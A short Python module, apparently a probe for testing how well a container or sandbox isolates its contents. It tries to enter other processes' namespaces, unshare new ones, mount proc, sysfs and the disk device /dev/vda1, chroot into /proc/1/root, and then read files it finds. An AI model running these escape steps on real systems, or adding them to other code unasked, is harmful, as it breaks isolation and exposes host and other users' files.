"""Makes itself other views of the machine: namespaces of its own or of others, mounts, another root."""

import ctypes
import os

NEW = {"user": 0x10000000, "mount": 0x20000, "pid": 0x20000000, "net": 0x40000000, "ipc": 0x8000000}


def probe(search):
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in search.pids():
        for kind in ("mnt", "net", "pid", "ipc", "user"):
            fd = search.attempt(lambda: os.open("/proc/%s/ns/%s" % (pid, kind), os.O_RDONLY))
            search.attempt(lambda: libc.setns(fd, 0))
    for flag in NEW.values():
        search.attempt(lambda: libc.unshare(flag))
    for source, target, kind in ((b"proc", b"/tmp", b"proc"), (b"sysfs", b"/tmp", b"sysfs"), (b"/dev/vda1", b"/tmp", b"ext4"), (b"none", b"/tmp", b"mqueue")):
        search.attempt(lambda: libc.mount(source, target, kind, 0, None))
    search.attempt(lambda: os.chroot("/proc/1/root"))
    for path in search.walk("/tmp", 2_000):
        search.read(path, 1 << 16)
    for folder in search.hints["folders"]:
        for path in search.walk(folder, 200):
            search.read(path)
